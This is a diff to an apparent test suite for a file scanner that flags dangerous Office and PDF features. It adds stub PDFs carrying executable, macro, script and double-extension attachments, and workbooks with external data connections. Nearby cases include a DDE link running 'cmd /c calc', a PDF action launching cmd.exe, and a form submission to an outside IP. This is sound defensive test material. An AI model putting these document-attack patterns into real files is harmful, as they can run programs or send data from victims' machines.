@@ -12,6 +12,11 @@ from tests.lib import make_files as make
 
 _RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 _PACKAGE_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
+SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+INVOICE = (
+    b'<?xml version="1.0" encoding="UTF-8"?><EInvoice xmlns="http://xbrl.mof.gov.cn/taxonomy">'
+    b"<InvoiceNumber>26352000000012345678</InvoiceNumber><Amount>1280.00</Amount></EInvoice>"
+)
 OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
 
 
@@ -47,7 +52,7 @@ def dde_workbook(before: bytes = b"") -> bytes:
         + b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
     )
     return make.package(
-        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+        SHEET,
         extra={"xl/externalLinks/externalLink1.xml": link},
     )
 
@@ -127,6 +132,40 @@ def pdf_with_object_stream(text: bytes, extra: bytes = b"/Filter/FlateDecode") -
     data = zlib.compress(text)
     head = b"5 0 obj<</Type/ObjStm/N 1/First 4%s/Length %d>>stream\r\n" % (extra, len(data))
     return make.pdf(head + data + b"\r\nendstream endobj\n")
+
+
+def pdf_with_attachment(
+    data: bytes, name: bytes = b"invoice.xml", *, spec: bytes = b"", extra: bytes = b""
+) -> bytes:
+    """帶一份附件的 PDF，各對象登記在目錄裏，與正經軟件寫的一樣。extra 是沒有登記的東西。"""
+    packed = zlib.compress(data)
+    objects = [
+        b"<</Type/Catalog/Names<</EmbeddedFiles<</Names[(a)2 0 R]>>>>>>",
+        b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 3 0 R>>%s>>" % (name, name, spec),
+        b"<</Type/EmbeddedFile/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
+        % (len(packed), packed),
+    ]
+    body, places = b"%PDF-1.7\n", []
+    for number, text in enumerate(objects, 1):
+        places.append(len(body))
+        body += b"%d 0 obj%s\nendobj\n" % (number, text)
+    body += extra
+    table = b"".join(b"%010d 00000 n \n" % at for at in places)
+    return (
+        b"%sxref\n0 4\n0000000000 65535 f \n%strailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
+        % (
+            body,
+            table,
+            len(body),
+        )
+    )
+
+
+def connected_workbook(kind: str, part: str) -> bytes:
+    """連着外面數據的表格。"""
+    return make.package(
+        SHEET, extra={"xl/_rels/workbook.xml.rels": relations(kind, part, external=False)}
+    )
 
 
 def square_png(side: int) -> bytes:
@@ -293,6 +332,29 @@ CASES: dict[str, tuple[str, Callable[[], bytes], str]] = {
         ),
         "損壞",
     ),
+    "workbook with a connection": (
+        "表.xlsx",
+        lambda: connected_workbook("connections", "connections.xml"),
+        "查詢和連接",
+    ),
+    "workbook with a query": (
+        "表.xlsx",
+        lambda: connected_workbook("queryTable", "../queryTables/queryTable1.xml"),
+        "查詢和連接",
+    ),
+    "workbook with a connection by content type": (
+        "表.xlsx",
+        lambda: make.archive(
+            {
+                "[Content_Types].xml": b"<Types><Override PartName='/xl/workbook.xml' ContentType='"
+                + SHEET.encode()
+                + b"'/><Override PartName='/xl/c.xml' ContentType='application/vnd."
+                b"openxmlformats-officedocument.spreadsheetml.connections+xml'/></Types>",
+                "xl/workbook.xml": b"<workbook/>",
+            }
+        ),
+        "查詢和連接",
+    ),
     "encrypted office": ("表.docx", lambda: make.ole("EncryptedPackage"), "設了密碼"),
     "encrypted archive": ("包.zip", lambda: b"Rar!\x1a\x07\x01\x00" + b"\1" * 99, "壓縮包"),
     # PDF
@@ -306,6 +368,79 @@ CASES: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "pdf launch": ("文.pdf", lambda: pdf(b"/S /Launch /F(cmd.exe)"), "啟動別的程序"),
     "pdf submit": ("文.pdf", lambda: pdf(b"/S/SubmitForm/F(http://198.51.100.7)"), "往外提交"),
     "pdf attachment": ("文.pdf", lambda: pdf(b"/Names<</EmbeddedFiles 7 0 R>>"), "夾帶着附件"),
+    "pdf attachment that is a program": (
+        "文.pdf",
+        lambda: pdf_with_attachment(b"MZ\x90\0" + b"\0" * 99, b"setup.exe"),
+        "夾帶着附件",
+    ),
+    "pdf attachment that is a program called xml": (
+        "文.pdf",
+        lambda: pdf_with_attachment(b"MZ\x90\0" + b"\0" * 99),
+        "夾帶着附件",
+    ),
+    "pdf attachment that is an archive": (
+        "文.pdf",
+        lambda: pdf_with_attachment(JAR),
+        "夾帶着附件",
+    ),
+    "pdf attachment that is a workbook with macros": (
+        "文.pdf",
+        lambda: pdf_with_attachment(with_part("xl/vbaProject.bin", b"x"), b"book.xlsm"),
+        "夾帶着附件",
+    ),
+    "pdf attachment that is a script host file": (
+        "文.pdf",
+        lambda: pdf_with_attachment(b"<job><script language='VBScript'>x</script></job>"),
+        "夾帶着附件",
+    ),
+    "pdf attachment that runs under another name": (
+        "文.pdf",
+        lambda: pdf_with_attachment(INVOICE, b"invoice.xml.hta"),
+        "夾帶着附件",
+    ),
+    "pdf attachment opened by office": (
+        "文.pdf",
+        lambda: pdf_with_attachment(
+            b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w/>"
+        ),
+        "夾帶着附件",
+    ),
+    "pdf attachment that is a page": (
+        "文.pdf",
+        lambda: pdf_with_attachment(b"<a xmlns:h='http://www.w3.org/1999/xhtml'><h:img/></a>"),
+        "夾帶着附件",
+    ),
+    "pdf attachment with entities": (
+        "文.pdf",
+        lambda: pdf_with_attachment(b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
+        "夾帶着附件",
+    ),
+    "pdf attachment swollen": (
+        "文.pdf",
+        lambda: pdf_with_attachment(b"<a>" + b" " * 40_000_000 + b"</a>"),
+        "夾帶着附件",
+    ),
+    "pdf attachment beside the listed one": (
+        "文.pdf",
+        lambda: pdf_with_attachment(INVOICE, extra=b"9 0 obj<</F(a.exe)/EF<</F 8 0 R>>>>endobj\n"),
+        "夾帶着附件",
+    ),
+    "pdf attachment with a hidden name": (
+        "文.pdf",
+        lambda: pdf_with_attachment(INVOICE, spec=b"/DOS(run.js)"),
+        "夾帶着附件",
+    ),
+    "pdf attachment and script": (
+        "文.pdf",
+        lambda: pdf_with_attachment(INVOICE, spec=b"/A<</S/JavaScript/JS(x)>>"),
+        "腳本",
+    ),
+    "pdf dynamic form": ("文.pdf", lambda: pdf(b"/AcroForm<</XFA[(template)5 0 R]>>"), "動態表單"),
+    "pdf dynamic form in an object stream": (
+        "文.pdf",
+        lambda: pdf_with_object_stream(b"4 0 <</Fields[]/X#46A 9 0 R>>"),
+        "動態表單",
+    ),
     "pdf rich media": ("文.pdf", lambda: pdf(b"/Subtype/RichMedia"), "音視頻"),
     "pdf oddly packed": (
         "文.pdf",
